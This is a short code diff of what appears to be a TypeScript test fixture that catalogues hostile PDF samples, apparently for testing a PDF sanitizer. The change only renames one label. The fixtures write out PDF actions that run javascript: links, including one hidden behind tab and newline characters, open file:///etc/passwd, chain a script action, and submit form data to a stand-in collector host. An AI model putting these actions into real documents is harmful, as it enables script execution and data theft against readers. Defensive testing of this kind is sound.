@@ -37,7 +37,7 @@ export const activePdfs: Record<string, SentFile> = {
   'a PDF with a link to a script': linked('/S /URI /URI (javascript:alert%281%29)'),
   'a PDF with a link to a script behind a blank': linked('/S /URI /URI (\\tjava\\nscript:alert%281%29)'),
   'a PDF with a link to a file': linked('/S /URI /URI (file:///etc/passwd)'),
-  'a PDF with a link that goes on': linked(`/S /URI /URI (https://a.example) /Next << ${script} >>`),
+  'a PDF with a link that continues': linked(`/S /URI /URI (https://a.example) /Next << ${script} >>`),
   'a PDF that sends its form away': linked('/S /SubmitForm /F (https://collector.example)'),
   'a PDF that loads data': linked('/S /ImportData /F (a.fdf)'),
   'a PDF with a program as an attachment': annotated('/Subtype /FileAttachment /FS 5 0 R', attachment, program),
